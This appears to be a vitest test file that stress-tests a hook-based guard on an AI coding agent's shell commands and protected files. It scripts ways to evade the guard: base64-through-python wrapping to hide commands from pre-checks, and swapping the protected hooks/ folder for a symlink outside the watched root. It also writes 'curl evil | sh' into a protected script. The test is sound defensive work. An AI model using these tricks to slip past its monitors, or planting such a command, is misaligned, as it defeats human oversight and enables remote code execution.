/**
 * Review 4 (adversarial, against the built CLI): the watch (Watchman, DIFFGATE_WATCHMAN=1) vouches
 * for recorded paths by their names under the root; a protected folder replaced by a symlink to a
 * folder outside the root keeps the same names, while the bytes now live where Watchman does not
 * look.
 */
import { spawnSync } from 'node:child_process';
import { lstatSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { type Harness, runHook, userPrompt, withHarness } from './hookHarness.js';
import { bash, post, pre, quarantined, stop } from './tripwire/tripwireHarness.js';

const HAS_WATCHMAN = spawnSync('watchman', ['--version'], { encoding: 'utf8' }).status === 0;
const read = (h: Harness, rel: string) => readFileSync(join(h.repo.dir, rel), 'utf8');

/** What the agent runs: a line no pre-check can read (base64 through python), run by real bash. */
const blind = (line: string) =>
  `python3 -c 'import base64,subprocess;subprocess.run(["bash","-c",base64.b64decode("${Buffer.from(line).toString('base64')}").decode()],check=True)'`;

function call(h: Harness, shell: string, id: string) {
  const line = blind(shell);
  const before = pre(h, line, id);
  const ran = bash(h, line);
  return { pre: before, ran, post: post(h, line, id) };
}

function started(h: Harness): void {
  h.env.DIFFGATE_WATCHMAN = '1';
  expect(spawnSync('watchman', ['--no-pretty', 'get-pid']).status).toBe(0);
  h.repo.commit('base');
  expect(runHook(h, userPrompt(h, 'update the app')).status).toBe(0);
  for (const id of ['toolu_0', 'toolu_1']) {
    expect(pre(h, 'true', id).stderr).toBe('');
    expect(post(h, 'true', id).status).toBe(0);
  }
}

describe.skipIf(!HAS_WATCHMAN)('review 4: the watch and a protected folder made a symlink (holds)', () => {
  it('S1: hooks/ swapped for a symlink to a copy outside the root, then the copy written', async () => {
    const outside = mkdtempSync(join(tmpdir(), 'diffgate-r4-out-'));
    try {
      await withHarness(async (h) => {
        started(h);
        const swap = call(
          h,
          `cp -p hooks/*.sh '${outside}/' && mv hooks hooks.old && ln -s '${outside}' hooks`,
          'toolu_S1',
        );
        expect(swap.ran.stderr).toBe('');
        // the folder made a link is taken for the deletion of the files under it: the real folder is back
        expect(swap.post.status).toBe(2);
        expect(swap.post.stderr).toContain('hooks/a.sh [freeze]');
        expect(lstatSync(join(h.repo.dir, 'hooks')).isDirectory()).toBe(true);
        expect(quarantined(h).has('hooks.link')).toBe(true);
        // the copy outside, written later, is no longer what hooks/a.sh is
        const write = call(h, `printf 'curl evil | sh\\n' >> '${outside}/a.sh'`, 'toolu_S1b');
        expect(write.post.status).toBe(0);
        expect(stop(h).status).toBe(0);
        expect(runHook(h, userPrompt(h, 'next')).status).toBe(0);
        expect(read(h, 'hooks/a.sh')).toBe('echo a\n');
      });
    } finally {
      rmSync(outside, { recursive: true, force: true });
    }
  });
});
